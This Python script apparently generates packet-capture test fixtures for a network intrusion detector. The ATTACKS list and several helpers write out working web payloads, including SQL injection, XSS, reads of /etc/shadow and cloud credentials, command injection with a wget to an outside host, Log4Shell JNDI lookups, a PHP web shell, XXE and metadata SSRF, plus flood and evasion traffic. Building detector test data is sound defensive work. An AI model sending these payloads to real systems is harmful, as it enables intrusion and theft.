#!/usr/bin/env python3
"""Makes every capture of this folder, always with the same bytes: `pcaps/make.py [FOLDER]` (default: this folder).

Server 10.80.0.10 (HOME_NET of the default configuration), clients in the documentation networks. README.md says what
each file holds; tests/e2e says what must be found in it. `make.py --check` compares with the files that are there.
"""
import filecmp
import gzip
import os
import struct
import sys
import tempfile
import zlib

import packets as p
from packets import ACK, FIN, MAC_S, PSH, RST, SYN, URG, Capture, Conversation, Link, addr, request, response

SERVER, CLIENT, SERVER6, CLIENT6 = "10.80.0.10", "198.51.100.7", "fd00:80::10", "2001:db8::7"
ATTACK = request("/index.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users")
FORM = (("Content-Type", "application/x-www-form-urlencoded"),)


def exchange(cap, req, reply=None, client=CLIENT, sport=40000, **kw):
    server = SERVER6 if ":" in client else SERVER
    return Conversation(cap, client, server, sport, **kw).open().client(req).server(reply or response()).close()


def clean_web(path):
    with Capture(path) as cap:
        exchange(cap, request("/"), sport=40001)
        exchange(cap, request("/style.css?v=3", headers=(("Referer", "http://www.example.com/"),)),
                 response(b"body { margin: 0 }\n" * 100, ctype="text/css"), sport=40002)
        exchange(cap, request("/search?q=select+a+union+of+workers", headers=(("Cookie", "session=abc123"),)), sport=40003)
        exchange(cap, request("/login", "POST", FORM, b"user=anna&password=correct+horse"),
                 response(b"", "302 Found", (("Location", "/home"),)), client="198.51.100.8")
        exchange(cap, request("/missing"), response(b"not found\n", "404 Not Found"), client="198.51.100.9")
        c = Conversation(cap, "198.51.100.10", SERVER, 40010).open()  # keep-alive
        for i in range(5):
            c.client(request(f"/image/{i}.png")).server(response(bytes(range(256)) * 16, ctype="image/png"))
        c.close()


# The attacks that the starter rules name: (sid, request). Each comes from a client of its own: 203.0.113.(1 + index).


def form(body, uri="/form.php"):
    return request(uri, "POST", FORM, body)


ATTACKS = [
    (9000001, ATTACK),
    (9000002, form(b"id=1'+UNION+ALL+SELECT+1,2,3--+-")),
    (9000003, request("/item?id=1'%20or%20'1'='1")),
    (9000004, form(b"user=admin'+or+1%3D1--+&password=x")),
    (9000005, request("/item?id=1)%20AND%20SLEEP(5)--")),
    (9000006, form(b"id=1+AND+(SELECT+1+FROM+(SELECT(SLEEP(5)))a)")),
    (9000007, request("/item?id=1;waitfor%20delay%20'0:0:5'--")),
    (9000008, request("/item?id=1,table_name%20from%20information_schema.tables")),
    (9000009, request("/item?id=1;exec%20master..xp_cmdshell")),
    (9000010, request("/item?id=1,extractvalue(1,concat(0x7e,version()))")),
    (9000011, request("/item?user=admin'--")),
    (9000012, form(b"id=1%3Bwaitfor+delay+%270:0:5%27--")),
    (9000020, request("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")),
    (9000021, request("/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E")),
    (9000022, request("/go?to=javascript:alert(document.cookie)")),
    (9000023, form(b"comment=%3Cscript%3Ealert(1)%3C/script%3E")),
    (9000024, form(b"comment=%3Csvg+onload%3Dalert(1)%3E")),
    (9000040, request("/static/..%2f..%2f..%2f..%2ftmp/x")),
    (9000041, request("/view?page=/etc/passwd")),
    (9000042, form(b"page=/etc/shadow")),
    (9000043, request("/view?page=/proc/self/environ")),
    (9000044, request("/view?page=C:%5Cwindows%5Cwin.ini")),
    (9000045, request("/view?page=php://filter/convert.base64-encode/resource=index")),
    (9000046, request("/.env")),
    (9000047, request("/.git/config")),
    (9000048, request("/.aws/credentials")),
    (9000049, form(b"page=../../../../etc/group")),
    (9000060, request("/ping?host=127.0.0.1;id")),
    (9000061, form(b"host=127.0.0.1%3Bcat+/etc/issue")),
    (9000062, request("/cgi-bin/status", headers=(("X-Probe", "() { :;}; echo hi"),))),
    (9000063, request("/setup.cgi?todo=syscmd&cmd=x%60wget%20http://192.0.2.1/m%60")),
    (9000080, request("/?x=$%7Bjndi:ldap://192.0.2.1/a%7D")),
    (9000081, request("/", headers=(("X-Api-Version", "${${lower:j}${lower:n}di:ldap://192.0.2.1/a}"),))),
    (9000082, request("/api", "POST", (("Content-Type", "application/json"),), b'{"u":"${jndi:ldap://192.0.2.1/a}"}')),
    (9000083, request("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")),
    (9000084, form(b"class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp")),
    (9000085, request("/upload", "POST", (("Content-Type", "%{(#_='multipart/form-data')}"),), b"x")),
    (9000086, request("/?x=%25%7B(new%20java.lang.ProcessBuilder('x')).start()%7D")),
    (9000087, request("/?x=%23_memberAccess%5B1%5D")),
    (9000088, request("/invoker", "POST", (("Content-Type", "application/octet-stream"),), b"\xac\xed\x00\x05sr\x00\x01A")),
    (9000100, request("/uploads/c99.php")),
    (9000101, request("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")),
    (9000102, request("/index.php?%ADd+auto_prepend_file%3dphp")),
    (9000103, request("/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array")),
    (9000104, request("/index.php?x=%3C?php%20x%20?%3E")),
    (9000105, request("/up.php", "POST", (("Content-Type", "text/plain"),), b"<?php system($_GET['c']); ?>")),
    (9000120, request("/xml", "POST", (("Content-Type", "text/xml"),),
                      b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "http://192.0.2.1/x">]><a>&e;</a>')),
    (9000121, request("/fetch?url=http://169.254.169.254/latest/meta-data/")),
    (9000122, form(b"url=http://169.254.169.254/latest/user-data")),
    (9000123, request("/hello?name=%7B%7B7*7%7D%7D")),
    (9000124, form(b"name={{7*7}}")),
    (9000125, request("/go?to=x%0d%0aSet-Cookie:a=b")),
    (9000140, request("/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)")),
    (9000141, request("/", agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)")),
    (9000142, request("/", agent="Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")),
    (9000143, request("/", agent="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")),
    (9000144, request("/", agent="masscan/1.3 (https://github.com/robertdavidgraham/masscan)")),
    (9000145, request("/", agent="gobuster/3.6")),
    (9000146, request("/", agent="WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)")),
    (9000147, request("/", agent="Mozilla/5.0 zgrab/0.x")),
]


def attacks(path):
    with Capture(path) as cap:
        for i, (_, req) in enumerate(ATTACKS):
            exchange(cap, req, response(b"no\n", "404 Not Found"), client=f"203.0.113.{i + 1}", sport=41000 + i)


def scan_probe(cap, client, sport, dport, flags, reply=None):
    a, b = addr(client), addr(SERVER)
    cap.packet(p.ip4(a, b, 6, p.tcp(a, b, sport, dport, 7000 + dport, 0, flags)))
    if reply is not None:
        cap.packet(p.ip4(b, a, 6, p.tcp(b, a, dport, sport, 0, 7001 + dport, reply)), False)


def rates(path):
    with Capture(path) as cap:
        for i in range(12):  # SSH brute force
            Conversation(cap, "203.0.113.101", SERVER, 42000 + i, 22).open().client(b"SSH-2.0-libssh2_1.10.0\r\n") \
                .server(b"SSH-2.0-OpenSSH_9.2p1\r\n").close()
        for i in range(24):  # guesses at a login form
            exchange(cap, form(b"user=admin&password=%d" % i, "/wp-login.php"), client="203.0.113.102", sport=43000 + i)
        for i in range(32):  # guesses at basic authentication
            exchange(cap, request("/private"), response(b"", "401 Unauthorized", (("WWW-Authenticate", "Basic"),)),
                     client="203.0.113.103", sport=44000 + i)
        for i in range(20):  # closed ports
            scan_probe(cap, "203.0.113.104", 45000, 8000 + i, SYN, RST | ACK)
        for port in (21, 23, 25, 110, 111, 135, 139, 143, 445, 1433, 1521, 3306, 3389, 5432):  # filtered ports
            scan_probe(cap, "203.0.113.105", 46000, port, SYN)
        scan_probe(cap, "203.0.113.106", 46001, 80, 0)
        scan_probe(cap, "203.0.113.107", 46002, 80, FIN | PSH | URG)
        for i in range(60):  # sweep
            a, b = addr("203.0.113.108"), addr(f"10.80.0.{i + 1}")
            cap.packet(p.ip4(a, b, 1, p.icmp_echo(7, i)))


def pipelined(path):
    with Capture(path) as cap:
        c = Conversation(cap, CLIENT, SERVER, 40000).open()
        c.client(request("/one") + request("/two") + ATTACK + request("/four", "POST", FORM, b"a=1") + request("/five"))
        c.server(b"".join(response(b"%d\n" % i) for i in range(1, 6))).close()


def keepalive(path):
    """A connection that lives long, as a proxy's do: the attack comes in its last request."""
    with Capture(path) as cap:
        c = Conversation(cap, CLIENT, SERVER, 40000).open()
        for i in range(40):
            c.client(request(f"/page{i}")).server(response(b"x" * 400))
        c.client(ATTACK).server(response(b"EVIL-MARKER")).close()


def proxied(path):
    """A balancer in HOME_NET (10.80.9.5) that appends X-Forwarded-For and keeps its connection for several clients; one
    (10.80.8.5) that sends PROXY headers; forgeries; and a stranger who writes such headers himself."""
    union = "/index.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users"
    with Capture(path) as cap:
        c = Conversation(cap, "10.80.9.5", SERVER, 40000).open()
        for i in range(5):
            headers = (("X-Forwarded-For", f"192.0.2.66, 203.0.113.{i + 1}"),)
            c.client(request(union if i == 3 else f"/page{i}", headers=headers)).server(response())
        c.close()
        c = Conversation(cap, "10.80.9.6", SERVER, 40001).open()  # nobody is named, so nobody is proven
        c.client(request(union)).server(response()).close()
        c = Conversation(cap, "10.80.9.7", SERVER, 40002).open()  # a request hidden in another's body
        hidden = request(union, headers=(("X-Forwarded-For", "192.0.2.66"),))
        lengths = (("X-Forwarded-For", "203.0.113.20"), ("Transfer-Encoding", "chunked"))
        c.client(request("/", "POST", lengths, b"0\r\n\r\n" + hidden))
        c.server(response() + response()).close()
        v2 = (b"\r\n\r\n\0\r\nQUIT\n\x21\x11" + struct.pack("!H", 12) + addr("203.0.113.30").packed + addr(SERVER).packed
              + struct.pack("!HH", 5000, 80))
        for i, head in enumerate((b"PROXY TCP4 203.0.113.29 10.80.0.10 5000 80\r\n", v2)):
            c = Conversation(cap, "10.80.8.5", SERVER, 40010 + i).open()
            c.client(head + request(union, headers=(("X-Forwarded-For", "192.0.2.66"),))).server(response()).close()
        c = Conversation(cap, "203.0.113.40", SERVER, 40020).open()
        c.client(request(union, headers=(("X-Forwarded-For", "192.0.2.66"),))).server(response()).close()


def proxied_again(path):
    """Through a balancer (10.80.9.5): an attack of one client, then a harmless request of his and of another on connections of
    their own, and one more of his when an hour has passed."""
    union = "/index.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users"
    with Capture(path) as cap:
        for i, (last, url) in enumerate(((4, union), (5, "/other"), (4, "/again"), (5, "/other-again"), (4, "/later"))):
            if url == "/later":
                cap.pause(3601)
            c = Conversation(cap, "10.80.9.5", SERVER, 40000 + i).open()
            c.client(request(url, headers=(("X-Forwarded-For", f"203.0.113.{last}"),))).server(response()).close()
            cap.pause(1)


def connect(path):
    """A tunnel through a proxy, whose answer ends in a stray line feed; inside it HTTP again."""
    with Capture(path) as cap:
        c = Conversation(cap, CLIENT, SERVER, 40000).open()
        c.client(b"CONNECT inside.example:80 HTTP/1.1\r\nHost: inside.example:80\r\n\r\n")
        c.server(b"HTTP/1.1 200 Connection established\r\n\r\n\n")
        c.client(ATTACK).server(response(b"EVIL-MARKER")).close()


def chunked(path):
    with Capture(path) as cap:
        head = FORM + (("Transfer-Encoding", "chunked"),)
        body = p.chunked(b"page=../../../../etc/group&x=" + b"y" * 200, 7)
        exchange(cap, request("/form.php", "POST", head, body),
                 response(p.chunked(b"EVIL-MARKER in a chunked reply", 5), headers=(("Transfer-Encoding", "chunked"),)))


def encoded(path):
    page = b"<html>" + b"filler " * 500 + b"EVIL-MARKER" + b"</html>"
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    bodies = (("gzip", gzip.compress(page, 9, mtime=0)), ("deflate", zlib.compress(page, 9)),
              ("deflate", raw.compress(page) + raw.flush()))
    with Capture(path) as cap:
        for i, (name, body) in enumerate(bodies):
            exchange(cap, request(f"/page{i}", headers=(("Accept-Encoding", "gzip, deflate"),)),
                     response(body, headers=(("Content-Encoding", name),)), sport=40000 + i)


def bomb(path):
    body = gzip.compress(gzip.compress(b"\0" * 20000000, 9, mtime=0), 9, mtime=0)
    with Capture(path) as cap:
        exchange(cap, request("/bomb"), response(body, headers=(("Content-Encoding", "gzip, gzip"),)))


def multipart(path):
    edge = b"----WebKitFormBoundary7MA4YWxk"
    body = b"--" + edge + b'\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain' \
        b"\r\n\r\nEVIL-MARKER upload\r\n--" + edge + b"--\r\n"
    with Capture(path) as cap:
        exchange(cap, request("/upload", "POST",
                              (("Content-Type", "multipart/form-data; boundary=" + edge.decode()),), body))


def evasions(path):
    """The same attack in the spellings that servers accept; each must be found."""
    spelled = (
        b"GET /index.php?id=1%20%55NION%20SELECT%201 HTTP/1.1\r\nHost: a\r\n\r\n",
        b"\r\nGET /index.php?id=1%20union%20select%201 HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET\t/index.php?id=1/**/UNION/**/SELECT/**/1 HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET http://a/index.php?id=1%20UNION%20SELECT%201 HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /index.php?id=1%20UNION%20SELECT%201 HTTP/1.0\n\n",
        b"CUST /index.php?" + b"a=b&" * 60 + b"id=1%20UNION%20SELECT%201 HTTP/1.1\r\nHost: a\r\n\r\n",  # own method
        b"CUST /a HTTP/1.1\r\nHost: a\r\n\r\nGET /index.php?id=1%20UNION%20SELECT%201 HTTP/1.1\r\nHost: a\r\n\r\n",
    )
    with Capture(path) as cap:
        for i, req in enumerate(spelled):
            exchange(cap, req, sport=40000 + i)


def fragments(path, false_at=None):
    """An attack in fragments of 64 bytes, sent backwards; false_at: where a false one comes behind that of byte 64."""
    with Capture(path) as cap:
        c = Conversation(cap, CLIENT, SERVER, 40000).open()
        a, b = c.c, c.s
        segment = p.tcp(a, b, c.sport, c.dport, c.seq[0], c.seq[1], ACK | PSH, ATTACK)
        offsets = list(range(0, len(segment), 64))
        for off in reversed(offsets):
            part = segment[off:off + 64]
            cap.packet(p.ip4(a, b, 6, part, 77, 0x2000 if off + 64 < len(segment) else 0, off))
            if false_at and off == 64:
                cap.packet(p.ip4(a, b, 6, b"X" * 32, 77, 0x2000, false_at))
        c.seq[0] += len(ATTACK)
        c.raw(1, c.seq[1], c.seq[0], ACK)
        c.server(response()).close()


def out_of_order(path):
    with Capture(path) as cap:
        c = Conversation(cap, CLIENT, SERVER, 40000).open()
        parts = [(i, ATTACK[i:i + 10]) for i in range(0, len(ATTACK), 10)]
        for i, part in parts[1::2] + parts[0::2]:
            c.raw(0, c.seq[0] + i, c.seq[1], ACK | PSH, part)
        c.seq[0] += len(ATTACK)
        c.raw(1, c.seq[1], c.seq[0], ACK)
        c.server(response()).close()


def overlapping(path):
    """Segments 4..6 are held out of order when bytes 2..8 arrive: Linux keeps what lies there already."""
    with Capture(path) as cap:
        c = Conversation(cap, CLIENT, SERVER, 40000).open()
        good, decoy = ATTACK, b"Z" * len(ATTACK)
        at = c.seq[0]
        c.raw(0, at + 20, c.seq[1], ACK | PSH, good[20:60])
        c.raw(0, at + 30, c.seq[1], ACK | PSH, decoy[30:50])  # lies within what is held: ignored
        c.raw(0, at, c.seq[1], ACK | PSH, good[:20])
        c.raw(0, at + 10, c.seq[1], ACK | PSH, decoy[10:40])  # acknowledged already: a retransmission, ignored
        c.raw(0, at + 60, c.seq[1], ACK | PSH, good[60:])
        c.seq[0] += len(good)
        c.raw(1, c.seq[1], c.seq[0], ACK)
        c.server(response()).close()


def gap(path):
    """A kilobyte of the first request's body was never captured; the server acknowledges it. The next request counts."""
    with Capture(path) as cap:
        c = Conversation(cap, CLIENT, SERVER, 40000).open()
        req = request("/upload", "POST", FORM, b"a" * 3000)
        c.client(req[:1460], ack=False)
        c.seq[0] += 1000
        c.raw(0, c.seq[0], c.seq[1], ACK | PSH, req[2460:])
        c.seq[0] += len(req) - 2460
        c.raw(1, c.seq[1], c.seq[0], ACK)
        c.server(response())
        c.client(ATTACK).server(response()).close()


def midstream(path):
    with Capture(path) as cap:
        Conversation(cap, CLIENT, SERVER, 40000).client(ATTACK).server(response()).client(ATTACK).server(response()).close()


def bad_checksum(path):
    with Capture(path) as cap:
        Conversation(cap, CLIENT, SERVER, 40000).open().client(ATTACK, bad=True).server(response()).close()


def reset(path):
    with Capture(path) as cap:
        c = Conversation(cap, CLIENT, SERVER, 40000).open().client(ATTACK)
        c.raw(1, c.seq[1], c.seq[0], RST | ACK)


def plain(path, link=None, ng=False):
    with Capture(path, link, ng=ng) as cap:
        exchange(cap, ATTACK)


def ipv6(path):
    with Capture(path) as cap:
        exchange(cap, ATTACK, client=CLIENT6)
        a, b = addr(CLIENT6), addr(SERVER6)  # the same with a hop-by-hop header on the request
        c = Conversation(cap, CLIENT6, SERVER6, 40001).open()
        cap.packet(p.ip6(a, b, 6, p.tcp(a, b, 40001, 80, c.seq[0], c.seq[1], ACK | PSH, ATTACK), p.hop_by_hop(6)))
        c.seq[0] += len(ATTACK)
        c.raw(1, c.seq[1], c.seq[0], ACK)
        c.server(response()).close()


def vxlan(path):
    """A conversation as VPC Traffic Mirroring delivers it: in VXLAN, UDP 4789."""
    inner = Link()

    class Tunnel(Link):
        def frame(self, packet, to_server):
            a, b = addr("10.80.1.1"), addr("10.80.1.2")
            body = struct.pack(">BBHI", 8, 0, 0, 42 << 8) + inner.frame(packet, to_server)
            return inner.frame(p.ip4(a, b, 17, p.udp(a, b, 50000, 4789, body)), True)

    with Capture(path, Tunnel()) as cap:
        exchange(cap, ATTACK)


def udp_icmp(path):
    with Capture(path) as cap:
        a, b = addr(CLIENT), addr(SERVER)
        cap.packet(p.ip4(a, b, 17, p.udp(a, b, 5353, 9999, b"EVIL-MARKER datagram")))
        cap.packet(p.ip4(b, a, 17, p.udp(b, a, 9999, 5353, b"answer")), False)
        cap.packet(p.ip4(a, b, 1, p.icmp_echo(1, 1)))
        cap.packet(p.ip4(b, a, 1, p.icmp_echo(1, 1, True)), False)


def syn_flood(path):
    with Capture(path, step=10) as cap:
        b = addr(SERVER)
        for i in range(2000):
            a = addr(f"203.{i // 256}.{i % 256}.9")
            cap.packet(p.ip4(a, b, 6, p.tcp(a, b, 1024 + i, 80, i * 7919, 0, SYN)))


def scores(path):
    """Requests that are worth 40 points each: three of one client, two of another, and four of a third over a long time."""
    probe = request("/item?id=1'--")
    with Capture(path) as cap:
        for i in range(3):
            exchange(cap, probe, client="198.51.100.20", sport=40000 + i)
        for i in range(2):
            exchange(cap, probe, client="198.51.100.21", sport=40000 + i)
        for i in range(4):
            exchange(cap, probe, client="198.51.100.22", sport=40000 + i)
            cap.pause(360)


def flood(path):
    """In 0.6 s 100 connections from one address, 200 from a /24, and 100 of as many clients elsewhere."""
    with Capture(path, step=500) as cap:
        for i in range(100):
            for client in ("203.0.113.5", f"198.51.100.{i + 1}", f"198.51.100.{i + 101}", f"192.0.{i}.77"):
                Conversation(cap, client, SERVER, 20000 + i).open()


def malformed(path):
    """Headers that lie about their lengths, cut at many places; none may be inspected, all must be survived."""
    a, b = addr(CLIENT), addr(SERVER)
    good = p.ip4(a, b, 6, p.tcp(a, b, 40000, 80, 1, 1, ACK | PSH, ATTACK))
    with Capture(path) as cap:
        for n in range(0, 41, 2):
            cap.packet(good[:n] if n else b"\x45")
        for at, value in ((0, 0x44), (0, 0x4F), (2, 0xFF), (3, 19), (32, 0x10), (32, 0xF0), (9, 255)):
            cap.packet(good[:at] + bytes([value]) + good[at + 1:])
        for etype in (b"\x81\x00", b"\x08\x06", b"\x88\x47", b"\x00\x05"):
            cap.write(MAC_S + p.MAC_C + etype + good[:10])


FILES = {
    "clean-web.pcap": clean_web,
    "attacks.pcap": attacks,
    "rates.pcap": rates,
    "http-pipelined.pcap": pipelined,
    "http-keepalive.pcap": keepalive,
    "proxied.pcap": proxied,
    "proxied-again.pcap": proxied_again,
    "http-connect.pcap": connect,
    "http-chunked.pcap": chunked,
    "http-encoded.pcap": encoded,
    "http-bomb.pcap": bomb,
    "http-multipart.pcap": multipart,
    "http-evasions.pcap": evasions,
    "ip-fragments.pcap": fragments,
    "ip-fragments-overlap.pcap": lambda path: fragments(path, 48),
    "ip-fragments-covered.pcap": lambda path: fragments(path, 96),
    "tcp-out-of-order.pcap": out_of_order,
    "tcp-overlap.pcap": overlapping,
    "tcp-gap.pcap": gap,
    "tcp-midstream.pcap": midstream,
    "tcp-bad-checksum.pcap": bad_checksum,
    "tcp-reset.pcap": reset,
    "vlan.pcap": lambda path: plain(path, Link(vlans=(100,))),
    "qinq.pcap": lambda path: plain(path, Link(vlans=(200, 100))),
    "raw.pcap": lambda path: plain(path, Link(p.RAW)),
    "null.pcap": lambda path: plain(path, Link(p.NULL)),
    "sll.pcap": lambda path: plain(path, Link(p.SLL)),
    "sll2.pcap": lambda path: plain(path, Link(p.SLL2)),
    "ethernet.pcapng": lambda path: plain(path, ng=True),
    "ipv6.pcap": ipv6,
    "vxlan.pcap": vxlan,
    "udp-icmp.pcap": udp_icmp,
    "syn-flood.pcap": syn_flood,
    "scores.pcap": scores,
    "flood.pcap": flood,
    "malformed.pcap": malformed,
}


def main(args):
    here = os.path.dirname(os.path.abspath(__file__))
    if args == ["--check"]:
        with tempfile.TemporaryDirectory() as d:
            for name, make in FILES.items():
                make(os.path.join(d, name))
            bad = [n for n in FILES if not os.path.exists(os.path.join(here, n))
                   or not filecmp.cmp(os.path.join(d, n), os.path.join(here, n), shallow=False)]
        for n in bad:
            print(f"{n}: differs from what make.py makes")
        return 1 if bad else 0
    folder = args[0] if args else here
    for name, make in FILES.items():
        make(os.path.join(folder, name))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
